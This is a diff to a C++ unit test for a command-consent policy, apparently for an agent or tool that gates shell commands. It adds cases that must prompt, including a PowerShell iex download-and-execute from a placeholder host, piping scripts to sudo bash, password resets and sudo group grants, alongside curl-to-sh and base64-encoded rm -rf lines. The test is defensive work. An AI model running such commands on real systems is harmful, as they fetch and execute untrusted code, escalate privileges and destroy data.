@@ -109,6 +109,9 @@ void tst_ConsentPolicy::shippedPolicyTable_data()
     ask("sed -i", QStringLiteral("sed -i 's/^hosts:.*/hosts: files dns/' /etc/nsswitch.conf"));
     ask("chmod -R", QStringLiteral("chmod -R 777 /srv/share"));
     ask("useradd", QStringLiteral("useradd -m support"));
+    ask("sudo passwd", QStringLiteral("sudo passwd jsmith"));
+    ask("chpasswd from a pipe", QStringLiteral("echo 'jsmith:Winter2026' | chpasswd"));
+    ask("usermod by path", QStringLiteral("/usr/sbin/usermod -aG sudo jsmith"));
     ask("netsh reset", QStringLiteral("netsh winsock reset"));
     ask("iptables -F", QStringLiteral("iptables -F"));
     ask("ip route add", QStringLiteral("ip route add default via 10.0.0.1"));
@@ -138,6 +141,8 @@ void tst_ConsentPolicy::shippedPolicyTable_data()
     ask("eval", QStringLiteral("X='rm -rf d'; eval \"$X\""));
     ask("piped to sh", QStringLiteral("curl -s https://example.com/fix.sh | sh"));
     ask("base64 to a shell", QStringLiteral("echo cm0gLXJmIGQK | base64 -d | bash"));
+    ask("iex", QStringLiteral("iex (New-Object Net.WebClient).DownloadString('http://x/y.ps1')"));
+    ask("piped to sudo bash", QStringLiteral("cat fix.sh | sudo bash -s"));
 
     // Diagnostics that must run without bothering anyone.
     run("ls", QStringLiteral("ls -la /var/log"));
@@ -174,6 +179,16 @@ void tst_ConsentPolicy::shippedPolicyTable_data()
     run("pwsh pipeline",
         QStringLiteral("Get-Process | Sort-Object CPU -Descending | Select-Object -First 5"));
     run("ip -s link", QStringLiteral("ip -s -s link show dev eth0"));
+    // Quoted operators are characters: seen through quotes, they must not read as pipes.
+    run("alternation in quotes", QStringLiteral("grep -E 'bash|zsh' /etc/passwd"));
+    run("alternation ending in sh", QStringLiteral("ps aux | grep -E \"sshd|sh\""));
+    run("escaped pipe", QStringLiteral("grep -E bash\\|zsh /etc/shells"));
+    run("decoded then filtered", QStringLiteral("kubectl get secret db -o jsonpath='{.data.pw}' | base64 -d | wc -c"));
+    run("a name containing eval", QStringLiteral("docker logs eval-api --tail 50"));
+    run("appliance cli", QStringLiteral("cli -c \"show version\""));
+    run("pipe into ssh-keygen", QStringLiteral("cat key.pub | ssh-keygen -lf -"));
+    run("reading /etc/passwd", QStringLiteral("cat /etc/passwd"));
+    run("getent passwd", QStringLiteral("getent passwd jsmith"));
 }
 
 void tst_ConsentPolicy::shippedPolicyTable()
